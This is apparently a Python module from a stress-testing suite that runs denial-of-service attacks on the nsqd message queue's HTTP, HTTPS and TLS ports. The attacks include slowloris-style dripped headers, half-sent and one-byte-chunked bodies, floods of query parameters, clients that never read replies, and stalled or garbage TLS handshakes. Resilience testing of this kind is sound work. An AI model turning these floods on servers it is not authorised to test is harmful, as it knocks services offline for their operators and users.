"""Attacks on nsqd's HTTP and HTTPS ports, and on TLS behind IDENTIFY."""

from __future__ import annotations

import os
import socket
import ssl
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Final

from bench.attack import bodies
from bench.attack.on_tcp import BODY, STALLED, drip, hold
from bench.attack.sockets import client, connect, exactly, hear_ok, paced, wait_until
from bench.attack.target import Target
from bench.work import HOST

_GARBAGE: Final = os.urandom(300)
# Begins like a TLS record with a ClientHello, and continues with garbage.
_ALMOST_HELLO: Final = b"\x16\x03\x01\x01\x20\x01\x00\x01\x1c\x03\x03" + _GARBAGE[:200]
_READERS: Final = 100
_TLS_WISHES: Final = b'{"feature_negotiation":true,"tls_v1":true}'


def request(method: str, path: str, body: bytes = b"") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def dripped_headers(target: Target, until: float) -> str:
    return drip(target.http, b"GET /ping HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 10_000, until)


def dripped_bodies(target: Target, until: float) -> str:
    return drip(
        target.http,
        b"POST /pub?topic=drip HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n" + b"x" * 9000,
        until,
    )


def half_bodies(target: Target, until: float) -> str:
    request_ = request("POST", "/mpub?topic=half", (b"x" * 999 + b"\n") * (BODY // 1000))
    return _held(target, request_[: len(request_) // 2], until)


def half_chunked_bodies(target: Target, until: float) -> str:
    """Send half bodies in chunks, which nsqd does not serve on its short path."""
    head = b"POST /mpub?topic=half HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    return _held(target, head + b"%x\r\n" % BODY + (b"x" * 999 + b"\n") * (BODY // 2000), until)


def _held(target: Target, half: bytes, until: float) -> str:
    return hold([connect(target.http) for _ in range(STALLED)], half, until)


def one_byte_lines(target: Target, until: float) -> str:
    body = b"x\n" * 2_600_000
    done = _asked(target.http, request("POST", "/mpub?topic=lines", body[: BODY + 200_000]), until)
    return f"{done} requests of {(BODY + 200_000) // 2:,} lines"


def many_parameters(target: Target, until: float) -> str:
    short = "/stats?format=json&topic=nobody&" + "a&" * 30_000
    mixed = "/pub?topic=parameters&" + "&".join(f"{number:x}=%41" for number in range(8000))
    done = 0
    while time.monotonic() < until:
        done += _asked(target.http, request("GET", short), until, most=1)
        done += _asked(target.http, request("POST", mixed, b"x"), until, most=1)
    return f"{done:,} requests with 30,000 or 8,000 parameters"


def one_byte_chunks(target: Target, until: float) -> str:
    head = b"POST /mpub?topic=chunks HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    done = _asked(target.http, head + b"1\r\nx\r\n" * 200_000 + b"0\r\n\r\n", until)
    return f"{done} bodies of 200,000 chunks"


def _asked(port: int, text: bytes, until: float, most: int = 1_000_000) -> int:
    """Return how often a request on a new connection was answered or refused."""
    done = 0
    while done < most and time.monotonic() < until:
        with connect(port) as sock, suppress(OSError):
            sock.settimeout(max(0.01, until - time.monotonic()))
            sock.sendall(text)
            sock.recv(1 << 16)
        done += 1
    return done


# Readers that never read


def deaf_statistics(target: Target, until: float) -> str:
    """Ask for `/stats` of 1,000 topics again and again on each connection, without reading the answers."""
    _make_topics(target, 1000)
    with _deaf(target, request("GET", "/stats?format=json") * 50) as socks:
        wait_until(until)
        return f"{len(socks)} connections with 50 requests of 1,000 topics each"


def deaf_history(target: Target, until: float) -> str:
    _fill(target, "history", megabytes=20)
    with _deaf(target, request("GET", "/topic/read?topic=history&from=0&limit=1000000")) as socks:
        wait_until(until)
        return f"{len(socks)} readers of 20 MB"


def statistics(target: Target, until: float) -> str:
    """Ask for `/stats` of 1,000 topics on one connection, and read each answer, as fast as they come."""
    _make_topics(target, 1000)
    done = _asked(target.http, request("GET", "/stats?format=json"), until)
    return f"{done:,} requests of 1,000 topics"


@contextmanager
def _deaf(target: Target, text: bytes) -> Iterator[list[socket.socket]]:
    with ExitStack() as stack:
        socks = []
        for _ in range(_READERS):
            sock = stack.enter_context(connect(target.http, receive_buffer=4096))
            sock.setblocking(False)
            with suppress(OSError):
                sock.send(text)
            socks.append(sock)
        yield socks


def _make_topics(target: Target, count: int) -> None:
    with client(target.tcp) as sock:
        for number in range(count):
            sock.sendall(b"PUB topic_%d\n\0\0\0\1x" % number)
            hear_ok(sock)


def _fill(target: Target, topic: str, *, megabytes: int) -> None:
    with client(target.tcp) as sock:
        for _ in range(megabytes):
            sock.sendall(bodies.mpub(topic, 1_000_000, 1000))
            hear_ok(sock)


# TLS


def garbage_https(target: Target, until: float) -> str:
    return _garbage(target.https, _GARBAGE, until)


def almost_hello_https(target: Target, until: float) -> str:
    return _garbage(target.https, _ALMOST_HELLO, until)


def _garbage(port: int, data: bytes, until: float) -> str:
    done = 0
    for _ in paced(2000, until):
        with suppress(OSError), connect(port) as sock:
            sock.send(data)
            done += 1
    return f"{done:,} connections"


def stalled_hello_https(target: Target, until: float) -> str:
    """Begin handshakes that never go on."""
    with ExitStack() as stack:
        for _ in paced(500, until):
            with suppress(OSError):
                sock = stack.enter_context(connect(target.https))
                sock.send(_ALMOST_HELLO[:100])
        return "500 a second, held"


def garbage_after_identify(target: Target, until: float) -> str:
    done = 0
    for _ in paced(500, until):
        with suppress(OSError), client(target.tcp, _TLS_WISHES) as sock:
            sock.send(_GARBAGE)
            done += 1
    return f"{done:,} connections"


def honest_handshakes(target: Target, until: float) -> str:
    """Make real handshakes, at a pace that one core can follow."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    done = 0
    for _ in paced(50, until):
        with suppress(OSError), context.wrap_socket(connect(target.https)) as sock:
            sock.sendall(request("GET", "/ping"))
            exactly(sock, 12)
            done += 1
    return f"{done:,} handshakes"
